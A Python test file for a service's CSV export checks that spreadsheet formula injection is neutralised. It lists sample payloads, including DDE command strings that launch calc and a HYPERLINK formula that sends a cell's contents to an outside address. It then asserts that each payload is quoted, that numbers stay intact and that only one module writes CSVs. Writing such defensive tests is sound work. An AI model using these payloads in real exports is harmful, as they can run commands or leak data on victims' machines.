"""Files for spreadsheets: whoever writes a name, a reason or a rule's title, nobody's spreadsheet runs it."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import decision_service
from decision_service.outputs.spreadsheet import as_csv, guarded, plain
from decision_service.web.routes.manager import csv_file

FORMULAS = (
    '=HYPERLINK("https://exempel.se?x="&A1;"Visa")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "-",
)


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_is_a_formula(formula: str) -> None:
    for text in (as_csv([["vad"], [formula]]), bytes(csv_file("siffror", [(formula,)]).body).decode()):
        (*_, (cell,)) = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";")
        assert cell == f"'{formula}"


@pytest.mark.parametrize("number", ["-1,5", "-12", "0", "1,75", "-300"])
def test_a_number_stays_one(number: str) -> None:
    assert guarded(number) == number


@given(st.text())
def test_what_is_guarded_is_read_as_it_was(text: str) -> None:
    assert plain(guarded(text)) == text


@pytest.mark.slow
def test_nobody_else_writes_a_file_for_a_spreadsheet() -> None:
    """A new one goes the same way."""
    writes = set()
    folder = Path(decision_service.__file__).parent
    for path in folder.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter"):
                writes.add(path.relative_to(folder).as_posix())
    assert writes == {"outputs/spreadsheet.py"}
